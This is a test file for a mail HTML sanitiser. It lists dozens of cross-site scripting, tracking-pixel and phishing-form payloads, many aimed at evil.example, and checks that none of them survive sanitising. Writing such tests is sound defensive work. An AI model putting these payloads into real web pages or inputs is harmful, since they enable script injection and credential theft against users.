import { Window } from "happy-dom";
import { describe, expect, it } from "vitest";
import { toSafeHtml } from "../../../../server/mail/inbound/safe-html.ts";

const images = new Map([["logo@x", "/files/1"]]);
const safe = (html: string): string => toSafeHtml(html, images).html;

/** Every element of HTML with its attributes, as a browser reads them. */
function elementsOf(html: string) {
  const document = new Window().document;
  document.body.innerHTML = html;
  return [...document.body.querySelectorAll("*")].map((element) => ({
    tag: element.tagName.toLowerCase(),
    attributes: [...element.attributes].map(({ name, value }) => [name, value] as const),
  }));
}

const ATTRIBUTES =
  /^(href|target|rel|src|alt|align|valign|bgcolor|dir|lang|width|height|title|color|size|border|cellpadding|cellspacing|colspan|rowspan|span|start|type|value)$/;
const FORBIDDEN =
  /^(script|style|iframe|frame|object|embed|form|input|button|link|meta|base|svg|math|video|audio|source|template|html|head|body)$/;

const ATTACKS = [
  "<script>alert(1)</script>",
  "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  '<img src=x onerror="alert(1)">',
  '<img src="javascript:alert(1)">',
  '<img src="https://evil.example/pixel.gif" width=1 height=1>',
  '<img src="//evil.example/pixel.gif">',
  '<img srcset="https://evil.example/a 1x" src="cid:logo@x">',
  '<img src="data:text/html;base64,PHNjcmlwdD4=">',
  '<img src="cid:https://evil.example/x">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="jav&#x09;ascript:alert(1)">x</a>',
  '<a href=" &#14; javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt&colon;alert(1)">x</a>',
  '<a href="vbscript:x">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="https://example.com" onclick="alert(1)" style="position:fixed;inset:0">x</a>',
  '<a href="https://example.com" target="_top" rel="opener">x</a>',
  '<div style="background:url(https://evil.example/x)">x</div>',
  "<style>@import url(https://evil.example/x.css);</style>",
  "<style><img src='</style><img src=x onerror=alert(1)>'>",
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<iframe src="https://evil.example"></iframe><iframe srcdoc="<script>alert(1)</script>">',
  '<object data="https://evil.example"></object><embed src="https://evil.example">',
  '<form action="https://evil.example"><input name=password><button>Sign in</button></form>',
  "<svg onload=alert(1)><animate onbegin=alert(1) attributeName=x></svg>",
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  "<svg><style><img src=x onerror=alert(1)></style></svg>",
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
  '<math><mi xlink:href="data:x,<script>alert(1)</script>">x</mi></math>',
  "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
  "<xmp><p title='</xmp><img src=x onerror=alert(1)>'></xmp>",
  "<textarea><img title='</textarea><img src=x onerror=alert(1)>'></textarea>",
  "<title><img title='</title><img src=x onerror=alert(1)>'></title>",
  "<template><script>alert(1)</script></template>",
  "<!--[if mso]><script>alert(1)</script><![endif]-->",
  "<!--><script>alert(1)</script>-->",
  "<![CDATA[<script>alert(1)</script>]]>",
  '<video src="https://evil.example/x" poster="https://evil.example/p" autoplay></video><audio src=x>',
  '<table background="https://evil.example/x"><tr><td background="https://evil.example/x">x</table>',
  '<body background="https://evil.example/x" onload="alert(1)">x</body>',
  '<input type=image src="https://evil.example/x">',
  '<div id="app" class="dialog" name="cookie">x</div>',
  '<p title="&quot;><script>alert(1)</script>">x</p>',
  "<p title='x' onmouseover='alert(1)'\n/onfocus=alert(1)>x</p>",
  '<details open ontoggle="alert(1)">x</details>',
  '<a href="https://example.com/?x=<script>">x</a><<script>alert(1)//<</script>',
  "<img/src='x'/onerror=alert(1)//",
  "<v:image src='https://evil.example/x'/><o:p onclick=x>x</o:p>",
  "<custom-element onclick=alert(1)>x</custom-element>",
  "<plaintext><script>alert(1)</script>",
  "<select><option><script>alert(1)</script></select>",
  "<ping a=b><a href='https://example.com' ping='https://evil.example'>x</a>",
];

describe("the original of a mail", () => {
  it.each(ATTACKS)("runs and loads nothing: %s", (attack) => {
    for (const { tag, attributes } of elementsOf(safe(`before ${attack} after`))) {
      expect(tag).not.toMatch(FORBIDDEN);
      for (const [name, value] of attributes) {
        expect(name).toMatch(ATTRIBUTES);
        if (name === "src") expect(value).toBe("/files/1");
        if (name === "href") expect(value).toMatch(/^(https?|mailto|tel):/);
        if (name === "target") expect(value).toBe("_blank");
        if (name === "rel") expect(value).toBe("noopener noreferrer nofollow");
      }
    }
    expect(safe(`before ${attack} after`)).toMatch(/^before /);
  });

  it("keeps text, tables, lists, links and colours of old attributes", () => {
    const html =
      '<h1>Hi</h1><p dir="rtl"><b>x</b></p><table border="1"><tr><td bgcolor="#eee" colspan="2">y</td></tr></table><ul><li>z</li></ul><font color="red">f</font>';
    expect(safe(html)).toBe(html);
    expect(safe('<a href="mailto:ana@example.org">a</a>')).toContain('href="mailto:ana@example.org"');
  });

  it.each(["cid:logo@x", "CID:Logo@X", "cid:logo%40x", " cid:logo@x "])(
    "shows the images of the mail: %s",
    (src) => {
      expect(safe(`<img src="${src}" alt="Logo" style="width:9px">`)).toBe(
        '<img src="/files/1" alt="Logo" />',
      );
    },
  );

  it("says what it does not show, and leaves its description", () => {
    const html =
      '<img src="https://shop.example/a.png" alt="A chair"><img src="cid:missing"><img src="cid:logo@x">';
    const { html: shown, imagesBlocked } = toSafeHtml(html, images);
    expect(imagesBlocked).toBe(2);
    expect(shown).toContain("A chair");
  });

  it("that is nested too deep or too long is cut", () => {
    const started = performance.now();
    const deep = safe(`${"<div>".repeat(20_000)}x`);
    expect(deep.length).toBeLessThan(10_000);
    expect(toSafeHtml("<p>x</p>".repeat(150_000), images).isCut).toBe(true);
    expect(performance.now() - started).toBeLessThan(10_000);
  });
});
